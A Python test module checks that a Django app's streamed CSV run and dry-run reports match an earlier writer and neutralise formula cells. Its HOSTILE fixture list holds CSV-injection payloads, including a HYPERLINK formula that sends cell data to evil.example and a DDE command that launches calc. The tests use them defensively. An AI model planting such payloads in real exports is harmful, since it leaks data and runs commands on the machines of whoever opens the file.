"""Run and dry-run CSVs are streamed from tuples read through a server-side cursor, each row's
transformation stored with it (issue 28, "Streamed CSV reports"): the bytes are those of the
writer before (a model instance per row, every product's work decoded for the transformation,
a Python call per cell) — for new runs, for rows written before ``ReportRow.transformation``
and for hostile cells."""

from __future__ import annotations

import csv
import io

import pytest
from rest_framework.test import APIClient

from bench.report_csv import old_report_lines, old_stream_csv
from common.transformations import normalise_transformation
from linking.models import PlanProduct
from reports.csv import COLUMNS
from reports.models import ReportRow, Run
from stores.services import settings_for
from tests.factories import MemberFactory
from tests.linking.runs.conftest import dry_run, work

pytestmark = pytest.mark.django_db(transaction=True)

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)", "\t=1+1", "\r=1+1", 'a,=b "c"', "x\n=y", '"=quoted"']  # fmt: skip


# --- the writers before issue 28 (the benchmark's baseline), and the dry run's --------------


def _old_stream_csv(header, rows) -> str:
    return "".join(old_stream_csv(header, rows))


def _old_run_csv(run: Run) -> str:
    return "".join(old_report_lines(run))


def _old_plan_csv(plan) -> str:
    keys = {"product_handle": "handle", "product_title": "title"}

    def rows():
        for result in plan.results.select_related("store").order_by("id"):
            domain = result.store.shop_domain
            products = PlanProduct.objects.filter(result_id=result.pk).order_by("seq")
            for product_rows in products.values_list("rows", flat=True):
                for row in product_rows:
                    yield {"store": domain, **row}
            for row in result.static_rows:
                yield {"store": domain, **row}

    return _old_stream_csv(
        COLUMNS,
        (
            ["" if v is None else v for v in (r.get(keys.get(c, c)) for c in COLUMNS)]
            for r in rows()
        ),
    )


# --- the tests ---------------------------------------------------------------------------------


def _download(client, url) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, response.content
    assert response.streaming is True  # not a document built in memory first
    return b"".join(response.streaming_content)


@pytest.fixture
def linked(sandbox, queue):
    """A reset run with a transformation, alt texts from a template and hostile cells."""
    setup = settings_for(sandbox.workspace)
    setup.default_image_transformation = "w_800,c_limit"
    setup.save()
    store = sandbox.shop(products=len(sandbox.skus()) - 2, media_per_product=2)
    plan = dry_run(
        sandbox, store, link_mode="reset", alt_source="template", alt_field="=alt {product.title}"
    )
    client = APIClient()
    client.force_authenticate(MemberFactory(workspace=sandbox.workspace, role="user").user)
    started = client.post(f"/api/plans/{plan.pk}/run/", {}, format="json")
    assert started.status_code == 202, started.content
    work(queue)
    run = Run.objects.get(pk=started.json()[0]["id"])
    assert run.status == Run.Status.SUCCEEDED, run.error
    rows = list(run.rows.order_by("seq"))
    for row, text in zip(rows[::3], HOSTILE, strict=False):
        row.product_title = row.message = text
        row.save(update_fields=["product_title", "message"])
    return client, plan, run


def test_the_run_csv_streams_the_bytes_of_the_writer_before(linked):
    client, _, run = linked
    actions = set(run.rows.values_list("action", flat=True))
    assert actions >= {"created", "unlinked", "unmatched"}, actions
    # the executor stored each row's transformation: the CSV reads no product's work
    stored = dict(run.rows.filter(action="created").values_list("pk", "transformation"))
    assert normalise_transformation("w_800,c_limit") in stored.values()
    assert not run.rows.filter(transformation__isnull=True).exists()

    new = _download(client, f"/api/runs/{run.pk}/report.csv")
    assert new == _old_run_csv(run).encode()
    cells = [c for row in csv.reader(io.StringIO(new.decode())) for c in row]
    assert "'" + HOSTILE[0] in cells and HOSTILE[0] not in cells


def test_rows_written_before_the_column_still_export_their_transformation(linked):
    client, _, run = linked
    expected = _old_run_csv(run).encode()
    # a run resumed across the release: rows of before and of after
    half = run.rows.count() // 2
    ReportRow.objects.filter(run=run, seq__gt=half).update(transformation=None)
    assert _download(client, f"/api/runs/{run.pk}/report.csv") == expected
    ReportRow.objects.filter(run=run).update(transformation=None)  # a run of an older release
    assert _download(client, f"/api/runs/{run.pk}/report.csv") == expected


def test_the_dry_run_csv_streams_the_bytes_of_the_writer_before(linked):
    client, plan, _ = linked
    products = list(PlanProduct.objects.filter(result__plan=plan).order_by("pk"))
    for product, text in zip(products, HOSTILE, strict=False):
        product.rows = [{**row, "title": text} for row in product.rows]
        product.save(update_fields=["rows"])
    new = _download(client, f"/api/plans/{plan.pk}/report.csv")
    assert new == _old_plan_csv(plan).encode()
    assert "'" + HOSTILE[0] in [c for row in csv.reader(io.StringIO(new.decode())) for c in row]


@pytest.mark.django_db(transaction=False)
def test_the_chunked_writer_neutralises_as_a_call_per_cell_did():
    """Chunks without a formula cell are written as they are, those with one (or a false
    alarm: ``,=`` inside a quoted cell) cell by cell: the same text either way."""
    from reports.csv import stream_csv

    benign = ["gid://shopify/Product/1", "shirt", "Shirt, blue", 'a "b"', "", None, 3, 0, "x=1"]
    cells = [*benign, *HOSTILE, -4, -0.5, "é"]
    rows = [
        [cells[(n + k) % len(cells)] if n % 997 == 0 else benign[(n + k) % 9] for k in range(6)]
        for n in range(3500)
    ]  # chunks (1,000 rows) with formulas, then one without
    header = ["a", "b", "c", "d", "e", "f"]
    assert "".join(stream_csv(header, rows)) == _old_stream_csv(header, rows)
    benign_rows = [[benign[(n + k) % 9] for k in range(6)] for n in range(2500)]
    assert "".join(stream_csv(header, benign_rows)) == _old_stream_csv(header, benign_rows)
    # a formula in the first cell of each chunk's first row: after a chunk sent too
    first = [[HOSTILE[0] if n % 50 == 0 else benign[n % 9], n] for n in range(9000)]
    assert "".join(stream_csv(header[:2], first)) == _old_stream_csv(header[:2], first)
